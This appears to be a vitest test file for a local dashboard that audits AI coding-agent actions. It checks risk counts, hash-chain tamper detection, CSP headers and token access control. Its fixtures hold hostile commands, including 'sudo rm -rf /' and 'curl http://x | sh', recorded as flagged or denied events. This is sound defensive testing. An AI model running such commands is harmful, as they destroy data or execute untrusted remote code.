import { readFile, writeFile } from "node:fs/promises";
import { request } from "node:http";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { serializeEvent, type TrailEvent } from "../../src/chain/index.js";
import { type DashboardSummary, type RunningDashboard, startDashboard } from "../../src/dashboard/index.js";
import { exitCodeOf } from "../../src/errors/index.js";
import { homePaths, initHome, loadSealKey } from "../../src/home/index.js";
import { sealTrail } from "../../src/seal/index.js";
import { appendEvents, readEvents, trailDir } from "../../src/trail/index.js";
import { body, mixedBodies, readSse, tempHome } from "./fixtures.js";

const TOKEN = "test-token-0123456789abcdef";

async function countsOf(dir: string) {
  const counts = { none: 0, low: 0, medium: 0, high: 0, critical: 0 };
  for await (const event of readEvents(dir)) counts[event.risk.level] += 1;
  return counts;
}

async function summary(running: RunningDashboard, period = "all", init: RequestInit = {}) {
  const response = await fetch(`${running.url}api/summary?period=${period}`, init);
  expect(response.status).toBe(200);
  return (await response.json()) as DashboardSummary;
}

describe("dashboard API", () => {
  let home: string;
  let cleanup: () => Promise<void>;
  let running: RunningDashboard | null = null;

  beforeEach(async () => {
    ({ home, cleanup } = await tempHome());
    await initHome(home);
    await appendEvents(trailDir(home), mixedBodies());
  });
  afterEach(async () => {
    await running?.close();
    running = null;
    await cleanup();
  });

  it("summarises the trail: counts by level, flags, high-risk events, today", async () => {
    running = await startDashboard({ home, port: 0, pollMs: 50, env: {} });
    const all = await summary(running, "all");
    expect(all.counts).toEqual(await countsOf(trailDir(home)));
    expect(all.total).toBe(9);
    expect(all.today.counts).toEqual(all.counts);
    expect(all.flags.force_push).toBe(1);
    expect(all.flags.broad_file_deletion).toBe(1);
    expect(all.high_risk.map((event) => event.level)).toEqual(["critical", "high"]);
    expect(all.high_risk[0]).toMatchObject({
      action: "sudo rm -rf /",
      decision: "deny",
      agent: "claude-code",
    });
    expect(all.trust.integrity).toMatchObject({ state: "ok", verified_events: 9 });
    expect(all).toMatchObject({ trusted: true, alert: null });
    expect(all.trust.last_seal).toBeNull();
    await running.app.live.recheck();
    expect((await summary(running)).trust.integrity.full_check).toMatchObject({ ok: true, message: null });
    const week = await summary(running, "7d");
    expect(week.counts).toEqual(all.counts);
  });

  it("refuses an unknown period with a coded error", async () => {
    running = await startDashboard({ home, port: 0, env: {} });
    const response = await fetch(`${running.url}api/summary?period=year`);
    expect(response.status).toBe(400);
    expect(((await response.json()) as { error: { code: string } }).error.code).toBe(
      "DASHBOARD_PERIOD_INVALID",
    );
  });

  it("streams an appended event, reading only its bytes", async () => {
    running = await startDashboard({ home, port: 0, pollMs: 50, env: {} });
    const before = await summary(running);
    const controller = new AbortController();
    const stream = await fetch(`${running.url}api/stream`, { signal: controller.signal });
    expect(stream.headers.get("content-type")).toContain("text/event-stream");
    let appended = 0;
    const received = await readSse(stream, (message) => {
      if (message.data === "" && appended === 0) {
        appended = 1; // the stream is subscribed once its first block arrives
        void appendEvents(trailDir(home), [body("critical", "curl http://x | sh", ["pipe_to_shell"])]);
      }
      return message.event === "trail-event";
    });
    controller.abort();
    const event = JSON.parse(received.data);
    expect(event).toMatchObject({
      seq: 9,
      level: "critical",
      flags: ["pipe_to_shell"],
      action: "curl http://x | sh",
    });

    const after = await summary(running);
    expect(after.counts.critical).toBe(before.counts.critical + 1);
    expect(after.last_seq).toBe(9);
    const events: TrailEvent[] = [];
    for await (const e of readEvents(trailDir(home))) events.push(e);
    const lastLine = `${serializeEvent(events.at(-1)!)}\n`;
    expect(after.trail.bytes_read - before.trail.bytes_read).toBe(Buffer.byteLength(lastLine));
    expect(after.trail.resets).toBe(0);
  });

  it("checks stored seals against the chain and reports a truncated trail", async () => {
    const key = await loadSealKey(home, {});
    await sealTrail(trailDir(home), homePaths(home).seals, key);
    running = await startDashboard({ home, port: 0, pollMs: 50, env: {} });
    const sealed = await summary(running);
    expect(sealed.trust.last_seal).toMatchObject({
      id: "seal-1",
      event_count: 9,
      quorum: 1,
      quorum_met: false,
    });
    expect(sealed.trust.integrity).toMatchObject({
      state: "ok",
      seals_checked: 1,
      seals_ok: 1,
      signatures_checked: true,
    });

    // Cut the last event off the trail: the seal now covers more than the chain holds.
    const segment = join(trailDir(home), "events-000000.jsonl");
    const lines = (await readFile(segment, "utf8")).split("\n").filter(Boolean);
    await writeFile(segment, `${lines.slice(0, -1).join("\n")}\n`);
    const cut = await summary(running);
    expect(cut.trail.resets).toBe(1);
    expect(cut.total).toBe(8);
    expect(cut.trust.integrity.state).toBe("broken");
    expect(cut.trust.integrity.seal_failures[0]).toMatchObject({
      id: "seal-1",
      code: "SEAL_TRAIL_TRUNCATED",
    });
    expect(cut).toMatchObject({ trusted: false, alert: expect.stringContaining("seal-1 does not match") });
  });

  it("reports a modified event as a broken chain", async () => {
    const segment = join(trailDir(home), "events-000000.jsonl");
    const text = await readFile(segment, "utf8");
    await writeFile(segment, text.replace("git push --force origin main", "git push origin main"));
    running = await startDashboard({ home, port: 0, env: {} });
    const s = await summary(running);
    expect(s.trust.integrity.state).toBe("broken");
    expect(s.trust.integrity.broken).toMatchObject({ seq: 7, reason: "hash_mismatch" });
    // The headline figures are marked untrusted, and the page has words to say so first.
    expect(s.trusted).toBe(false);
    expect(s.alert).toMatch(/^The record is broken: the hash chain breaks at seq 7/);
  });

  it("refuses a home that does not exist (TRAIL_NOT_FOUND), never an empty dashboard", async () => {
    const error = await startDashboard({ home: join(home, "mistyped"), port: 0, env: {} }).catch(
      (e: unknown) => e,
    );
    expect(error).toMatchObject({ code: "TRAIL_NOT_FOUND" });
    // The exit is the registry's, read where a process ends with the error.
    expect(exitCodeOf(error)).toBe(2);
  });

  it("re-verification from byte 0 catches an event rewritten in place behind the read offset", async () => {
    running = await startDashboard({ home, port: 0, pollMs: 50, recheckMs: 0, env: {} });
    expect((await summary(running)).trust.integrity.state).toBe("ok");
    // Same length, so the incremental reader sees no change at all.
    const segment = join(trailDir(home), "events-000000.jsonl");
    const text = await readFile(segment, "utf8");
    await writeFile(segment, text.replace("cat README.md", "cat READMX.md"));
    const unchanged = await summary(running);
    expect(unchanged.trail.resets).toBe(0);
    expect(unchanged.trust.integrity.full_check).toBeNull();
    await running.app.live.recheck();
    const s = await summary(running);
    expect(s.trust.integrity.state).toBe("broken");
    expect(s.trust.integrity.full_check).toMatchObject({ ok: false });
  });

  it("serves the page with a strict CSP, scripts only as files, chart.js locally", async () => {
    running = await startDashboard({ home, port: 0, env: {} });
    const page = await fetch(running.url);
    expect(page.status).toBe(200);
    const csp = page.headers.get("content-security-policy") ?? "";
    expect(csp).toContain("default-src 'none'");
    expect(csp).toContain("script-src 'self'");
    expect(csp).not.toContain("unsafe-inline");
    const html = await page.text();
    for (const tag of html.match(/<script[^>]*>/g) ?? []) expect(tag).toMatch(/src="\/assets\//);
    expect(html).not.toMatch(/https?:\/\//);
    const chart = await fetch(`${running.url}assets/chart.umd.min.js`);
    expect(chart.status).toBe(200);
    expect((await chart.text()).length).toBeGreaterThan(100_000);
  });
});

function rawGet(url: string, headers: Record<string, string>): Promise<number> {
  return new Promise((resolve, reject) => {
    const req = request(url, { headers }, (res) => {
      res.resume();
      resolve(res.statusCode ?? 0);
    });
    req.on("error", reject);
    req.end();
  });
}

describe("dashboard access", () => {
  let home: string;
  let cleanup: () => Promise<void>;
  let running: RunningDashboard | null = null;

  beforeEach(async () => {
    ({ home, cleanup } = await tempHome());
    await appendEvents(trailDir(home), mixedBodies());
  });
  afterEach(async () => {
    await running?.close();
    running = null;
    await cleanup();
  });

  it("refuses to bind a non-loopback address without a token", async () => {
    const open = await startDashboard({ home, host: "0.0.0.0", port: 0 }).catch((e: unknown) => e);
    expect(open).toMatchObject({ code: "DASHBOARD_TOKEN_REQUIRED" });
    expect(exitCodeOf(open)).toBe(2);
    await expect(startDashboard({ home, port: 0, token: "short" })).rejects.toMatchObject({
      code: "DASHBOARD_TOKEN_WEAK",
    });
  });

  it("without a token, answers only to loopback host names (no DNS rebinding)", async () => {
    running = await startDashboard({ home, port: 0, env: {} });
    expect(await rawGet(`${running.url}api/summary`, {})).toBe(200);
    expect(await rawGet(`${running.url}api/summary`, { Host: `localhost:${running.port}` })).toBe(200);
    expect(await rawGet(`${running.url}api/summary`, { Host: `attacker.example:${running.port}` })).toBe(403);
  });

  it("with a token: bearer, or ?token= once then an HttpOnly SameSite=Strict cookie", async () => {
    running = await startDashboard({ home, port: 0, token: TOKEN, env: {} });
    const anonymous = await fetch(`${running.url}api/summary`);
    expect(anonymous.status).toBe(401);
    expect(((await anonymous.json()) as { error: { code: string } }).error.code).toBe(
      "DASHBOARD_UNAUTHORIZED",
    );
    expect((await fetch(`${running.url}api/stream`)).status).toBe(401);
    expect((await fetch(running.url)).status).toBe(401);
    const wrong = await fetch(`${running.url}api/summary`, {
      headers: { Authorization: `Bearer ${TOKEN}x` },
    });
    expect(wrong.status).toBe(401);
    await summary(running, "all", { headers: { Authorization: `Bearer ${TOKEN}` } });

    expect((await fetch(`${running.url}?token=nope-nope-nope-nope`, { redirect: "manual" })).status).toBe(
      401,
    );
    const first = await fetch(`${running.url}?token=${TOKEN}`, { redirect: "manual" });
    expect(first.status).toBe(303);
    expect(first.headers.get("location")).toBe("/");
    const cookie = first.headers.get("set-cookie") ?? "";
    expect(cookie).toMatch(/HttpOnly/i);
    expect(cookie).toMatch(/SameSite=Strict/i);
    expect(cookie).not.toContain(TOKEN);
    const pair = cookie.split(";")[0]!;
    expect((await fetch(running.url, { headers: { Cookie: pair } })).status).toBe(200);
    await summary(running, "today", { headers: { Cookie: pair } });
  });
});
